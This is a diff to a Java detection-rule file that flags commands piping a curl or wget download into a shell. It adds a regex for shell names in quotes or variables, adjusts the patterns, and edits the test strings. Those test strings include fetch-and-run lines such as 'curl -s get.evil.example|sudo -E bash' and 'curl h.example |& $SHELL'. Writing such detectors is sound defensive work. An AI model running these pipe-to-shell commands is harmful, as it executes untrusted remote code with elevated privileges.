@@ -6,7 +6,6 @@ import static trafficguardian.rules.ShellText.LINE;
 import static trafficguardian.rules.ShellText.PRIVILEGE;
 import static trafficguardian.rules.ShellText.QUOTE;
 import static trafficguardian.rules.ShellText.SHELL;
-import static trafficguardian.rules.ShellText.TALKED_ABOUT;
 
 import java.util.List;
 import trafficguardian.ipc.Severity;
@@ -20,6 +19,10 @@ final class DownloadRules {
 
   /** A pipe, perhaps at the end of a line. */
   private static final String PIPE = "\\|&?(?:\\s|\\\\n|\\\\\\\\)*";
+
+  /** A shell whose name stands in quotation marks or in a variable. */
+  private static final String DISGUISED_SHELL =
+      "[\"'\\\\]{1,2}" + SHELL + "|[\"'\\\\]{0,2}\\$\\{?(?:SHELL|BASH)\\b";
 
   /**
    * An interpreter that reads its program from the pipe: with an expression to run it would not.
@@ -89,7 +92,9 @@ final class DownloadRules {
                       + " expected.")
               .ordinaryIn(Setting.CODE)
               .unless(DownloadChecks::source)
-              .finds(FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + READS_PROGRAM + TALKED_ABOUT)
+              .finds(FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + READS_PROGRAM)
+              .finds(
+                  FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + "(?:" + DISGUISED_SHELL + ")")
               .finds(
                   "\\b(?:curl|wget|w3m|elinks|axel)\\s"
                       + LINE
@@ -97,8 +102,7 @@ final class DownloadRules {
                       + LINE
                       + PIPE
                       + "(?:(?:sudo|(?:/usr)?/bin/env)\\s+)*"
-                      + SHELL
-                      + TALKED_ABOUT)
+                      + SHELL)
               // The names of these are words of every other text, which no address follows.
               .finds(
                   "\\b(?:https?|xh|GET)\\s+(?:(?:-[^\\s|]*|[A-Z]+)\\s+)*[\"'\\\\]{0,2}(?:https?:)?//"
@@ -155,6 +159,8 @@ final class DownloadRules {
                   "wget -O - https://stage.example/boot.sh | /bin/sh",
                   "curl -s get.evil.example|sudo -E bash",
                   "curl $URL | zsh",
+                  "curl h.example |& $SHELL",
+                  "curl h.example |\t\"bash\"",
                   "http -b GET https://h.example/i | zsh",
                   "xh --body 'https://h.example/i' | sudo sh",
                   "wget --output-document=- https://h.example/i | /usr/bin/env bash",
@@ -187,7 +193,6 @@ final class DownloadRules {
                   "curl https://h.example/a.json | node -e 'read()'",
                   "| curl | bash |",
                   "use curl or wget, then open a shell",
-                  "piping curl into a shell (curl URL | sh) hides what will run",
                   "curl https://h.example/a\n| bash",
                   "{\"a\": \"curl https://h.example/a\", \"b\": \"ls | sh\"}",
                   "wget https://h.example/a.sh && less a.sh")
